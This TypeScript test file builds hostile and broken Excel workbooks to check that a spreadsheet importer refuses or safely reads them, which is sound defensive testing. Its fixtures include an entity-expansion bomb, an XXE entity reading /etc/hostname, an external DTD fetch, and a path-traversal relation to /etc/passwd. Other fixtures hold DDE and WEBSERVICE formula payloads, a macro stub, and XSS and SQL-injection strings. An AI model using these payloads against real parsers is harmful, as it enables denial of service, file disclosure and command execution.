/** Hostile or broken insides: entities, endless sizes, loops, parts that are missing or lead outside, macros. */
import type { CaseFile } from '../expectation.ts'
import { on } from '../expectation.ts'
import { blank, day, file, formula, is, means, number, sheet, text, total, typed } from '../sheet.ts'
import { columnName, entriesOf, workbookParts } from '../workbook-writer.ts'
import { zip } from '../zip-writer.ts'
import { BROKEN_WORDS, bomb, mustRefuse, perhapsRead, rosterParts, SHEET_PATH, TOO_BIG_WORDS, withPart } from './hostile.ts'
import { BIRTH, NAME, POST, TT } from './words.ts'

const f = file('hostile')
const STRINGS = 'xl/sharedStrings.xml'
const RELS = 'xl/_rels/workbook.xml.rels'
const BOOK = 'xl/workbook.xml'
const without = (path: string) => () => {
  const all = rosterParts()
  all.delete(path)
  return zip(entriesOf(all))
}
const added =
  (more: Readonly<Record<string, string>>, change: Readonly<Record<string, (xml: string) => string>> = {}) =>
  () => {
    const all = rosterParts()
    for (const [path, xml] of Object.entries(more)) all.set(path, xml)
    for (const [path, edit] of Object.entries(change)) all.set(path, edit(String(all.get(path))))
    return zip(entriesOf(all))
  }
const doctype = (inside: string) => (xml: string) => xml.replace('?>', `?><!DOCTYPE sst [${inside}]>`)
const LAUGHS = [
  '<!ENTITY l0 "ha">',
  ...Array.from({ length: 30 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`),
].join('')
const ENTITY = /thực thể|DOCTYPE|DTD|không an toàn|không đọc|hỏng|khai báo|không nhận/i
const DEEP = 200_000
const hugeText = () => {
  const all = rosterParts()
  all.delete(STRINGS)
  const head = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
  return zip([...entriesOf(all), bomb(STRINGS, head, 'Đ'.repeat(32), 300, '</t></si></sst>')])
}
const wideRow = () => Array.from({ length: 16_384 }, (_, i) => `<c r="${columnName(i + 1)}9"><v>1</v></c>`).join('')
const manyMerges = () => Array.from({ length: 100_000 }, (_, i) => `<mergeCell ref="F${2 * i + 9}:G${2 * i + 10}"/>`).join('')

/** No sheet can be found in it: refused, or nothing in it. */
const refusedOrEmpty = (...args: Parameters<typeof mustRefuse>): CaseFile => {
  const c = mustRefuse(...args)
  return { ...c, expectation: { ...c.expectation, outcome: ['refused', 'empty'] } }
}

export const hostileInsides: readonly CaseFile[] = [
  mustRefuse(
    'hostile-30-billion-laughs.xlsx',
    'an entity bomb: 10^30 letters in ten lines',
    ENTITY,
    withPart(STRINGS, (xml) => doctype(LAUGHS)(xml).replace('Địch Thị Lành', '&l30;')),
  ),
  mustRefuse(
    'hostile-31-external-entity.xlsx',
    'an entity that names a file of the machine',
    ENTITY,
    withPart(STRINGS, (xml) => doctype('<!ENTITY f SYSTEM "file:///etc/hostname">')(xml).replace('Địch Thị Lành', '&f;')),
  ),
  perhapsRead('hostile-32-external-dtd.xlsx', 'a DTD to be fetched from another machine', ENTITY, {
    bytes: withPart(SHEET_PATH, (xml) => xml.replace('?>', '?><!DOCTYPE worksheet SYSTEM "http://vi-du.invalid/x.dtd">')),
  }),
  perhapsRead('hostile-33-deep.xlsx', 'two hundred thousand elements one inside the other', /./, {
    bytes: withPart(SHEET_PATH, (xml) => xml.replace('<sheetData>', `${'<x>'.repeat(DEEP)}${'</x>'.repeat(DEEP)}<sheetData>`)),
  }),
  perhapsRead('hostile-34-wide.xlsx', 'a row of 16,384 columns below the list', TOO_BIG_WORDS, {
    bytes: withPart(SHEET_PATH, (xml) => xml.replace('</sheetData>', `<row r="9">${wideRow()}</row></sheetData>`)),
  }),
  perhapsRead('hostile-35-dimension.xlsx', 'a sheet of two rows that says A1:XFD1048576 of itself', TOO_BIG_WORDS, {
    outcome: ['staged'],
    bytes: withPart(SHEET_PATH, (xml) => xml.replace('<sheetData>', '<dimension ref="A1:XFD1048576"/><sheetData>')),
  }),
  perhapsRead('hostile-36-many-merges.xlsx', '100,000 merged ranges', TOO_BIG_WORDS, {
    bytes: withPart(SHEET_PATH, (xml) => xml.replace('</sheetData>', `</sheetData><mergeCells>${manyMerges()}</mergeCells>`)),
  }),
  perhapsRead('hostile-37-one-great-merge.xlsx', 'one merged range over the whole sheet, J1:XFD1048576', TOO_BIG_WORDS, {
    bytes: withPart(SHEET_PATH, (xml) =>
      xml.replace('</sheetData>', '</sheetData><mergeCells><mergeCell ref="J1:XFD1048576"/></mergeCells>'),
    ),
  }),
  perhapsRead('hostile-38-row-out-of-range.xlsx', 'a row 4294967295 and a cell ZZZZZZ9', BROKEN_WORDS, {
    bytes: withPart(SHEET_PATH, (xml) =>
      xml.replace('</sheetData>', '<row r="4294967295"><c r="ZZZZZZ9"><v>1</v></c></row></sheetData>'),
    ),
  }),
  perhapsRead('hostile-39-million-empty-rows.xlsx', 'a million empty but formatted rows', TOO_BIG_WORDS, {
    bytes: withPart(SHEET_PATH, (xml) =>
      xml.replace('</sheetData>', `${Array.from({ length: 1_000_000 }, (_, i) => `<row r="${i + 9}"/>`).join('')}</sheetData>`),
    ),
  }),
  mustRefuse('hostile-40-huge-text.xlsx', 'one text of 300 MB', TOO_BIG_WORDS, hugeText),
  mustRefuse(
    'hostile-41-strings-missing.xlsx',
    'the texts’ part is missing: cells without texts are not read as empty',
    BROKEN_WORDS,
    without(STRINGS),
  ),
  f(
    'hostile-42-string-out-of-range.xlsx',
    'cells that point at a text that is not there: asked or refused, never another person’s text',
    [
      sheet(
        'DS',
        [TT, NAME, BIRTH, POST],
        [
          [1, means(text('Địch Thị Lành'), { fullName: { flag: true } }), day(1980, 1, 9), 'Bí thư'],
          [2, 'Địch Văn Hiền', typed('9/1/1979', on(1979, 1, 9)), 'Phó Bí thư'],
        ],
      ),
    ],
    {
      outcome: ['staged', 'refused'],
      says: BROKEN_WORDS,
      book: { rewrite: (path, xml) => (path === SHEET_PATH ? xml.replace(/(<c r="B2"[^>]*><v>)\d+/, '$1987654321') : xml) },
    },
  ),
  mustRefuse(
    'hostile-43-strings-loop.xlsx',
    'the relation of the texts leads back to the workbook itself',
    /./,
    withPart(RELS, (xml) => xml.replace('sharedStrings.xml', 'workbook.xml')),
  ),
  refusedOrEmpty(
    'hostile-44-sheet-loop.xlsx',
    'a sheet’s relation leads to the list of relations',
    /./,
    withPart(RELS, (xml) => xml.replace('worksheets/sheet1.xml', '_rels/workbook.xml.rels')),
  ),
  mustRefuse('hostile-45-sheet-missing.xlsx', 'the only sheet is missing from the zip', BROKEN_WORDS, without(SHEET_PATH)),
  mustRefuse('hostile-46-workbook-missing.xlsx', 'the workbook’s part is missing', BROKEN_WORDS, without(BOOK)),
  perhapsRead('hostile-47-relations-missing.xlsx', 'the workbook’s relations are missing: no sheet can be found', /./, {
    bytes: without(RELS),
  }),
  mustRefuse(
    'hostile-48-path-upwards.xlsx',
    'the sheet is said to be ../../../../etc/passwd',
    /./,
    withPart(RELS, (xml) => xml.replace('worksheets/sheet1.xml', '../../../../etc/passwd')),
  ),
  mustRefuse(
    'hostile-49-cut-xml.xlsx',
    'the sheet’s XML stops in the middle of a row',
    BROKEN_WORDS,
    withPart(SHEET_PATH, (xml) => xml.slice(0, xml.indexOf('r="B3"') + 4)),
  ),
  mustRefuse(
    'hostile-50-not-xml.xlsx',
    'the sheet’s part is no XML',
    BROKEN_WORDS,
    withPart(SHEET_PATH, () => 'Xin chào'),
  ),
  perhapsRead('hostile-51-external-links.xlsx', 'links to another workbook on the network; values are those that lie here', /./, {
    outcome: ['staged'],
    bytes: added(
      {
        'xl/externalLinks/externalLink1.xml': '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
      },
      {
        [RELS]: (xml) =>
          xml.replace(
            '</Relationships>',
            '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="file://///may-chu.invalid/a.xlsx" TargetMode="External"/></Relationships>',
          ),
      },
    ),
  }),
  perhapsRead(
    'hostile-52-macros.xlsm',
    'a workbook with macros: they are never run; read, or refused with a sentence',
    /macro|xlsm|xlsx|mã lệnh/i,
    {
      bytes: added(
        { 'xl/vbaProject.bin': 'Sub Auto_Open()' },
        {
          '[Content_Types].xml': (xml) =>
            xml.replace('openxmlformats-officedocument.spreadsheetml.sheet.main+xml', 'ms-excel.sheet.macroEnabled.main+xml'),
        },
      ),
    },
  ),
  f(
    'hostile-53-formulas-that-act.xlsx',
    'formulas that call programs and machines (DDE, WEBSERVICE): only their stored texts are read',
    [
      sheet(
        'DS',
        [TT, NAME, BIRTH, POST],
        [
          [
            1,
            is(formula('WEBSERVICE("http://vi-du.invalid/"&A1)', 'Địch Thị Ngoan'), 'Địch Thị Ngoan'),
            day(1981, 1, 9),
            is(formula("cmd|'/c calc'!A0", 'Bí thư'), 'Bí thư'),
          ],
        ],
      ),
    ],
  ),
  f('hostile-54-markup-in-text.xlsx', 'names with markup, SQL, a path and a formula: they stay text', [
    sheet(
      'DS',
      [TT, NAME, BIRTH, POST],
      [
        [1, '<script>alert(1)</script>', day(1982, 1, 9), "Bí thư'); DROP TABLE nguoi;--"],
        [2, 'Địch Văn Nhân', typed('9/1/1983', on(1983, 1, 9)), '../../../etc/passwd'],
      ],
    ),
  ]),
  f(
    'hostile-55-many-sheets.xlsx',
    'two thousand sheets, one of them a list',
    [
      ...Array.from({ length: 1999 }, (_, i) => sheet(`Trống ${i + 1}`, [''], [blank], { ownHeader: true })),
      sheet('DS', [TT, NAME, BIRTH], [[1, 'Địch Thị Cuối', day(1984, 1, 9)], total('', 'Cộng: 1')]),
    ],
    { outcome: ['staged', 'refused'], says: TOO_BIG_WORDS },
  ),
  f('hostile-56-odd-sheet-names.xlsx', 'sheets named __proto__ and constructor, and headings of such names', [
    sheet('__proto__', [TT, NAME, BIRTH], [[1, 'Địch Thị Nguyên', day(1985, 1, 9)]]),
    sheet('constructor', [TT, NAME, BIRTH, '__proto__', 'toString'], [[1, 'Địch Văn Mẫu', day(1986, 1, 9), 'x', 'x']]),
  ]),
  f(
    'hostile-57-style-out-of-range.xlsx',
    'cells with a style that is not there: what was a day is a plain number, so it is asked',
    [
      sheet(
        'DS',
        [TT, NAME, BIRTH, POST],
        [
          [1, 'Địch Thị Thời', is(number(29229), { flag: true }), 'Bí thư'],
          [2, 'Địch Văn Trang', typed('9/1/1979', on(1979, 1, 9)), 'Phó Bí thư'],
        ],
      ),
    ],
    {
      outcome: ['staged', 'refused'],
      says: BROKEN_WORDS,
      book: { rewrite: (path, xml) => (path === SHEET_PATH ? xml.replace(/ s="\d+"/g, ' s="4000000000"') : xml) },
    },
  ),
  f('hostile-58-blank-workbook.xlsx', 'a workbook with one empty sheet', [sheet('Sheet1', [''], [blank], { ownHeader: true })], {
    outcome: ['empty', 'refused'],
  }),
  refusedOrEmpty('hostile-59-no-sheets.xlsx', 'a workbook without a sheet', /./, () =>
    zip(entriesOf(workbookParts({ sheets: [] }))),
  ),
]
